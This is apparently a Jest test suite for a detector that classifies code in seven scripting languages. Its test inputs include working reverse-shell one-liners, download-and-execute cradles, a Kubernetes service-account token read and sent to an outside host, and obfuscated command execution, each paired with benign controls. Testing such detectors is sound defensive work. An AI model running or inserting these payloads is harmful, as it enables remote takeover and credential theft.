/**
 * The brace-and-keyword languages: for each, reverse shells, download-and-run, credential reads
 * and sends, decoding, and everyday code that must stay plain (a retry loop is a looping connect,
 * not a shell; a webhook post is a fetch; printing is nothing).
 */
import { describe, expect, it } from '@jest/globals';
import type { Language } from '../../src/workload/action.js';
import { lines } from './actions.js';

type Case = readonly [name: string, code: string, expected: readonly string[]];

function table(language: Exclude<Language, 'shell' | 'python'>, cases: readonly Case[]): void {
  describe(language, () => {
    it.each(cases)('%s', (_name, code, expected) => {
      expect(lines(language, code)).toEqual(expected);
    });
  });
}

table('perl', [
  [
    'reverse shell: bareword socket, open(STDIN, ">&S"), exec',
    'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
    ['connect#0 tcp 10.0.0.1:1234', 'stdio#0 fds=0,1,2', 'run shell=/bin/sh -i'],
  ],
  [
    'reverse shell: IO::Socket::INET, fdopen and a command loop',
    '$c=new IO::Socket::INET(PeerAddr,"10.0.0.2:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
    ['connect#0 tcp 10.0.0.2:4242', 'stdio#0 fds=0,1', 'run shell=<>~{net:tcp://10.0.0.2:4242} (loop)'],
  ],
  [
    'download and eval with LWP::Simple',
    'use LWP::Simple; my $x = get("http://203.0.113.1/p.pl"); eval $x;',
    [
      'fetch GET http://203.0.113.1/p.pl',
      'eval perl get("http://203.0.113.1/p.pl")~{net:http://203.0.113.1/p.pl}',
    ],
  ],
  [
    'a decoded command',
    'my $x = "aWQ="; use MIME::Base64; system(decode_base64($x));',
    ['run shell=id{decoded:base64}'],
  ],
  [
    'benign: a connect retry loop',
    'use IO::Socket; while (1) { my $s = IO::Socket::INET->new(PeerAddr => "postgres", PeerPort => 5432); last if $s; sleep 1; }',
    ['connect#0 tcp postgres:5432 (loop)'],
  ],
  [
    'benign: printing a hash',
    'print "hello\\n"; my %h = (a => 1); foreach my $k (keys %h) { print "$k\\n"; }',
    [],
  ],
]);

table('node', [
  [
    'reverse shell: spawn piped to a net.Socket',
    '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();',
    ['run argv=[/bin/sh]', 'connect#0 tcp 10.0.0.1:4444', 'stdio#0 fds=0,1,2 process=0'],
  ],
  [
    'reverse shell: destructured spawn inside the connect callback',
    "const { spawn } = require('child_process'); const s = new (require('net').Socket)(); s.connect(9001, '192.0.2.50', () => { const p = spawn('sh', ['-i']); s.pipe(p.stdin); p.stdout.pipe(s); p.stderr.pipe(s); });",
    ['connect#0 tcp 192.0.2.50:9001', 'run argv=[sh, -i]', 'stdio#0 fds=0,1,2 process=1'],
  ],
  [
    'download and eval over https.get',
    "require('https').get('https://203.0.113.2/x.js', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); });",
    [
      'fetch GET https://203.0.113.2/x.js',
      "eval node r.on('data', c => d += c)~{net:https://203.0.113.2/x.js}",
    ],
  ],
  [
    'a decoded command through Buffer.from',
    "const { execSync } = require('child_process'); execSync(Buffer.from('aWQ=', 'base64').toString());",
    ['run shell=id{decoded:base64}'],
  ],
  [
    'a token read and posted',
    "const fs=require('fs');const t=fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token','utf8');require('https').request({hostname:'198.51.100.9',path:'/t',method:'POST'}).end(t)",
    ['read /var/run/secrets/kubernetes.io/serviceaccount/token', 'fetch POST https://198.51.100.9/t'],
  ],
  [
    'benign: fetch POST with an env token',
    'fetch("https://api.example.com/v1/items", {method: "POST", headers: {"Authorization": "Bearer " + process.env.TOKEN}, body: JSON.stringify({a: 1})}).then(r => r.json()).then(console.log)',
    [
      'fetch POST https://api.example.com/v1/items headers=[Authorization: Bearer ${TOKEN}~{env:TOKEN}] body=a=1&~',
    ],
  ],
  [
    'benign: a connection check',
    "const net = require('node:net'); const s = net.createConnection({host: 'db', port: 5432}); s.on('connect', () => s.end());",
    ['connect#0 tcp db:5432'],
  ],
  ['benign: printing', 'console.log("hello " + process.argv[2])', []],
]);

table('ruby', [
  [
    'reverse shell: descriptor redirections in exec',
    'require \'socket\';f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
    ['connect#0 tcp 10.0.0.1:1234', 'run shell=/bin/sh -i <&3 >&3 2>&3', 'stdio#0 fds=0,1,2 process=1'],
  ],
  [
    'reverse shell: a gets/popen/print loop',
    'c=TCPSocket.new("10.0.0.3","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
    [
      'connect#0 tcp 10.0.0.3:4444 sends=[io.read~]',
      'run shell=c.gets~{net:tcp://10.0.0.3:4444} (loop)',
      'stdio#0 fds=0,1 process=1 (loop)',
    ],
  ],
  [
    'download and eval with Net::HTTP',
    'require \'net/http\'; eval(Net::HTTP.get(URI("http://203.0.113.4/r.rb")))',
    [
      'fetch GET http://203.0.113.4/r.rb',
      'eval ruby Net::HTTP.get(URI("http://203.0.113.4/r.rb"))~{net:http://203.0.113.4/r.rb}',
    ],
  ],
  [
    'system by send and a decoded name',
    'send(:system, Base64.decode64("aWQ="))',
    ['run shell=id{decoded:base64}'],
  ],
  [
    'benign: Net::HTTP.post of JSON',
    "require 'net/http'; uri = URI('https://api.example.com/v1/report'); Net::HTTP.post(uri, '{\"ok\":true}', 'Content-Type' => 'application/json')",
    ['fetch POST https://api.example.com/v1/report body={"ok":true}'],
  ],
  [
    'benign: a retry loop with times',
    "5.times { |i| begin; TCPSocket.new('redis', 6379).close; break; rescue; sleep 1; end }",
    ['connect#0 tcp redis:6379 (loop)'],
  ],
  ['benign: printing', 'puts "hello #{ENV[\'USER\']}"', []],
]);

table('php', [
  [
    'reverse shell: fsockopen and exec with fd 3',
    '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
    ['connect#0 tcp 10.0.0.1:4444', 'run shell=/bin/sh -i <&3 >&3 2>&3', 'stdio#0 fds=0,1,2 process=1'],
  ],
  [
    'reverse shell: proc_open with the socket as descriptors',
    '$s=fsockopen("10.0.0.5",443);$p=proc_open("sh",[0=>$s,1=>$s,2=>$s],$pipes);',
    ['connect#0 tcp 10.0.0.5:443', 'run shell=sh', 'stdio#0 fds=0,1,2 process=1'],
  ],
  [
    'download and eval',
    'eval(file_get_contents("http://203.0.113.8/s.txt"));',
    [
      'fetch GET http://203.0.113.8/s.txt',
      'eval php file_get_contents("http://203.0.113.8/s.txt")~{net:http://203.0.113.8/s.txt}',
    ],
  ],
  [
    'a function name built from pieces',
    "$f='sys'.'tem'; $f(base64_decode('aWQ='));",
    ['run shell=id{decoded:base64}'],
  ],
  [
    'a token read and sent in a URL',
    "$t = file_get_contents('/var/run/secrets/kubernetes.io/serviceaccount/token'); file_get_contents('http://198.51.100.3/?t=' . $t);",
    [
      'read /var/run/secrets/kubernetes.io/serviceaccount/token',
      "fetch GET http://198.51.100.3/?t=file_get_contents('/var/run/secrets/kubernetes.io/serviceaccount/token')~{cred:service-account-token}",
    ],
  ],
  [
    'benign: a curl POST',
    '$ch = curl_init("https://hooks.example.com/x"); curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(["ok" => true])); curl_exec($ch);',
    ['fetch POST https://hooks.example.com/x body=ok=true~'],
  ],
  ['benign: printing', 'echo "hello " . getenv("USER") . "\\n";', []],
]);

table('powershell', [
  [
    'reverse shell: the TcpClient stream loop',
    "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()",
    [
      'connect#0 tcp 10.0.0.1:4444 sends=[iex $data 2>&1PS pwd).Path> ~{net:tcp://10.0.0.1:4444}]',
      'eval powershell $stream.Read($bytes, 0, $bytes.Length)~{net:tcp://10.0.0.1:4444} (loop)',
      'stdio#0 fds=0,1 (loop)',
    ],
  ],
  [
    'download cradle: IEX of DownloadString',
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a.ps1')",
    [
      'fetch GET http://203.0.113.10/a.ps1',
      "eval powershell New-Object Net.WebClient).DownloadString('http://203.0.113.10/a.ps1')~{net:http://203.0.113.10/a.ps1}",
    ],
  ],
  [
    'download, save and start',
    'iwr http://203.0.113.11/x.exe -OutFile C:\\Temp\\x.exe; Start-Process C:\\Temp\\x.exe',
    [
      'fetch GET http://203.0.113.11/x.exe',
      'write C:\\Temp\\x.exe <- iwr http://203.0.113.11/x.exe -OutFile C:\\Temp\\x.exe~{net:http://203.0.113.11/x.exe}',
      'run argv=[C:\\Temp\\x.exe]',
    ],
  ],
  [
    'a base64 command evaluated',
    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))",
    ['eval powershell whoami{decoded:base64}', 'run argv=[whoami]'],
  ],
  [
    'a TcpClient by its constructor',
    "$s = [System.Net.Sockets.TcpClient]::new('10.9.9.9', 8443)",
    ['connect#0 tcp 10.9.9.9:8443'],
  ],
  [
    'benign: a webhook post',
    'Invoke-RestMethod -Uri "https://hooks.example.com/x" -Method Post -Body (@{text="done"} | ConvertTo-Json) -Headers @{Authorization="Bearer $env:TOKEN"}',
    [
      'fetch POST https://hooks.example.com/x headers=[Authorization: Bearer ${TOKEN}~{env:TOKEN}] body=text=done&~',
    ],
  ],
  [
    'benign: output and a pipeline of cmdlets',
    'Write-Output "hello"; Get-ChildItem C:\\data | Measure-Object',
    [],
  ],
]);

table('lua', [
  [
    'reverse shell: LuaSocket and io.popen',
    'local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",4444);while true do local r,x=t:receive();local f=assert(io.popen(r,"r"));local b=assert(f:read("*a"));t:send(b);end;f:close();t:close();',
    [
      'connect#0 tcp 10.0.0.1:4444 sends=[f:read("*a")~]',
      'run shell=r~{net:tcp://10.0.0.1:4444} (loop)',
      'stdio#0 fds=0,1 process=1 (loop)',
    ],
  ],
  [
    'code built with string.char and loaded',
    'load(string.char(111,115,46,101,120,101,99,117,116,101,40,39,105,100,39,41))()',
    ["eval lua os.execute('id')", 'run shell=id'],
  ],
  [
    'download and loadstring',
    'local http = require("socket.http"); local body = http.request("http://203.0.113.12/p.lua"); loadstring(body)()',
    [
      'fetch GET http://203.0.113.12/p.lua',
      'eval lua http.request("http://203.0.113.12/p.lua")~{net:http://203.0.113.12/p.lua}',
    ],
  ],
  ['benign: printing', 'print("hello " .. os.getenv("HOME"))', []],
]);

table('awk', [
  [
    'reverse shell: gawk /inet/tcp coprocess',
    'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}',
    [
      'connect#0 tcp 10.0.0.1:4242 sends=[shell>, s |& getline c~] (loop)',
      'run shell=s |& getline c~{net:tcp://10.0.0.1:4242} (loop)',
      'stdio#0 fds=0,1 process=1 (loop)',
    ],
  ],
  ['system()', 'BEGIN { system("id") }', ['run shell=id']],
  [
    'a command output piped into sh',
    'BEGIN { "curl -s http://203.0.113.13/x.sh" | getline cmd; print cmd | "sh" }',
    ['run shell=curl -s http://203.0.113.13/x.sh', 'run shell=sh stdin=curl -s http://203.0.113.13/x.sh~'],
  ],
  ['benign: a field printed', '{ print $1 }', []],
  ['benign: ENVIRON printed', 'BEGIN { print ENVIRON["HOME"] }', []],
]);
